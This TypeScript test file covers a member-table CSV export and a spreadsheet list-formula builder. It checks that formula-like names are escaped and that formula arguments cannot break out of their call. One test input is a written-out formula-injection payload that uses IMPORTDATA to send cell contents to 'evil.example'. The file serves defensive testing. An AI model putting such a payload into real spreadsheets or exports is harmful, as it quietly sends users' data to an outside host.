import { toFileName, toMemberCells, toMembersCsv, toListFormula } from '../../../../shared/panel/lists/member-table';
import Papa from 'papaparse';
import fc from 'fast-check';
import { escapeFormulas } from '../../../../shared/cells/formula-escape';
import { FORMULA_PAYLOADS, HIDDEN_PAYLOADS } from '../../../fakes/formula-payloads';
import { anyCharacter } from '../../../setup/any-character';
import { times } from '../../../setup/chance';
import { readFormulaCall } from '../../../../shared/cells/formulas';

describe('members table', () => {
  const member = (name: string | null, domain: string | null = 'a.example') => ({
    domain,
    name,
    slug: null,
    tier: 'high',
    score: 7,
  });

  test('a table has titles, texts as texts, and numbers as numbers', () => {
    expect(toMemberCells([member('=1+1', null)])).toEqual([
      ['Domain', 'Name', 'Tier', 'Score'].map((text) => ({ kind: 'text', text })),
      [
        { kind: 'blank' },
        { kind: 'text', text: '=1+1' },
        { kind: 'text', text: 'high' },
        { kind: 'number', number: 7 },
      ],
    ]);
  });

  test('names with quotes, commas and line breaks, and formulas, are safe in CSV', () => {
    const names = ['Smith, "Jones" & Co', '=HYPERLINK("http://x")', '-5', 'two\nlines', 'شركة', '＝SUM(1)'];
    expect(toMembersCsv(names.map((name) => member(name)))).toBe(
      '\ufeffDomain,Name,Tier,Score\r\n' +
        'a.example,"Smith, ""Jones"" & Co",high,7\r\n' +
        'a.example,"\'=HYPERLINK(""http://x"")",high,7\r\n' +
        "a.example,'-5,high,7\r\n" +
        'a.example,"two\nlines",high,7\r\n' +
        'a.example,شركة,high,7\r\n' +
        "a.example,'＝SUM(1),high,7\r\n",
    );
  });

  it.each([...FORMULA_PAYLOADS, ...HIDDEN_PAYLOADS])(
    'exported, %j runs nothing, whatever separates cells',
    (payload) => {
      for (const delimiter of [',', ';', '\t']) {
        const { data } = Papa.parse<string[]>(toMembersCsv([member(payload)]).slice(1), { delimiter });
        expect(data.flat().filter((cell) => /^["\s]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell))).toEqual([]);
      }
    },
  );

  test('whatever the names are, a reader of CSV finds them again', () => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ unit: anyCharacter }).filter((name) => name !== '' && escapeFormulas(name) === name)),
        (names) => {
          const { data } = Papa.parse<string[]>(toMembersCsv(names.map((name) => member(name))).slice(1), {
            newline: '\r\n',
          });
          expect(data.slice(1, -1).map(([, name]) => name)).toEqual(names);
        },
      ),
      { numRuns: times(300) },
    );
  });

  test('the file has a name that every system takes', () => {
    expect([toFileName('Q1/Q2: "best" ‮leads '), toFileName('...'), toFileName('x'.repeat(200)).length]).toEqual([
      'Q1 Q2 best leads.csv',
      'list.csv',
      84,
    ]);
  });
});

describe('list formula', () => {
  test.each([
    ['lst_1', { tier: null, search: '' }, 25, '=TRACE_LIST("lst_1","","top=25")'],
    ['lst_1', { tier: 'high' as const, search: '' }, 50, '=TRACE_LIST("lst_1","","top=50; tier=high")'],
    ['a"b', { tier: null, search: 'x;y' }, 25, '=TRACE_LIST("a""b","","top=25; search=\'x;y\'")'],
    ['lst_1', { tier: null, search: "O'Brien, Sons" }, 25, `=TRACE_LIST("lst_1","","top=25; search='O''Brien, Sons'")`],
  ])('the formula for %s with %o and %i rows', (listId, filter, rows, formula) => {
    expect(toListFormula(listId, filter, rows)).toBe(formula);
  });

  it.each([...FORMULA_PAYLOADS, ...HIDDEN_PAYLOADS, 'a"),IMPORTDATA("https://evil.example/?"&A1)&("'])(
    '%j stays one argument of one call, wherever it is',
    (payload) => {
      const call = readFormulaCall(toListFormula(payload, { tier: null, search: payload }, 25));
      expect({ id: call?.id, kinds: call?.args.map(({ is }) => is), first: call?.args[0] }).toEqual({
        id: 'TRACE_LIST',
        kinds: ['value', 'value', 'value'],
        first: { is: 'value', value: payload },
      });
    },
  );
});
